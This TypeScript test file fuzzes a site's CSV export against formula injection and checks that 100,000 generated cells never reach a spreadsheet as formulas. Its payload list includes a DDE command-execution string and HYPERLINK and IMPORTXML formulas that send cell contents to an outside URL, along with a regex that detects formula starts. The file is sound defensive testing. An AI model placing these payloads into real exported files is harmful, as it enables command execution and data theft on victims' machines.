import { parse } from 'csv-parse/sync'
import { expect, test } from 'vitest'
import { csvText, parseCsv } from '../../app/priorities/csv-text.ts'
import { generator } from '../../app/priorities/generator.ts'

/** How formulas have been begun, hidden behind, and broken out of a cell with. */
const starts = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠', '"', ',', '\n', '\r\n', ';', "'", ' ', '']
const bodies = [
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://example.org/?"&A1,"look")',
  'IMPORTXML("https://example.org",A1)',
  '2+5',
  '"=1+1"',
  '",=1+1',
  '\n=1+1',
  '\r\n@SUM(1)',
  'a quiet sentence',
  'جواب',
]
const dangerous = /^[=+\-@\t\r\0＝＋－＠]/

/** 100,000 cells, each of up to three starts and a body, so that quoting and escaping meet in every way. */
function hostileRows(): string[][] {
  const random = generator(20261127)
  const some = (of: readonly string[]) => of[random.below(of.length)]!
  const cell = () => Array.from({ length: random.below(4) }, () => some(starts)).join('') + some(bodies)
  return Array.from({ length: 10_000 }, () => Array.from({ length: 10 }, cell))
}

test('of 100,000 hostile cells none reaches a spreadsheet as a formula, and none spills into another', () => {
  const rows = hostileRows()
  // Read as another program reads it, by RFC 4180.
  const read = parse(csvText(rows), { record_delimiter: '\r\n', relax_column_count: true }) as string[][]
  expect(read.length).toBe(rows.length)
  const formulas = read.flat().filter((cell) => dangerous.test(cell))
  expect(formulas).toEqual([])
  const changed = read.flatMap((row, i) => row.filter((cell, j) => ![rows[i]![j], `'${rows[i]![j]}`].includes(cell)))
  expect(changed).toEqual([])
})

test('written without the guard the same cells are formulas: the test above can fail', () => {
  const plain = hostileRows()
    .map((row) => `${row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\r\n`)
    .join('')
  const read = parse(plain, { record_delimiter: '\r\n' }) as string[][]
  expect(read.flat().filter((cell) => dangerous.test(cell)).length).toBeGreaterThan(10_000)
})

test('what the site reads back is what was written', () => {
  const rows = hostileRows().map((row) => row.map((cell) => cell.replace(/^'+/, '')))
  expect(parseCsv(csvText(rows))).toEqual(rows)
})
